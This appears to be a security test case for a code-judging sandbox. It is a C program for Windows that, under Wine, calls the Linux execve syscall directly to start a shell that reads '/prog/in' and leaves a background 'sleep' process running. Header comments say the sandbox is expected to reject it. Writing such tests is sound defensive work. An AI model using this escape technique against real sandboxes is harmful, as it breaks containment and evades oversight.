// attack: run a shell of Linux in its place
// expect: wrong-answer,runtime-error
// defends: a program has no rights beyond its own
#include <stdio.h>
#include <windows.h>

/* Under Wine this process is a process of Linux, and may ask its kernel directly. */
static long ask(long number, long first, long second, long third) {
  long result;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(first), "S"(second), "d"(third) : "rcx", "r11", "memory");
  return result;
}

static void answer(void) {
  long long a, b;
  if (scanf("%lld %lld", &a, &b) == 2) printf("%lld\n", a + b);
}

int main(void) {
  const char *words[] = {"/bin/sh", "-c", "cat /prog/in; sleep 1000 &", NULL};
  ask(59, (long)words[0], (long)words, 0);
  puts("held off");
  return 0;
}
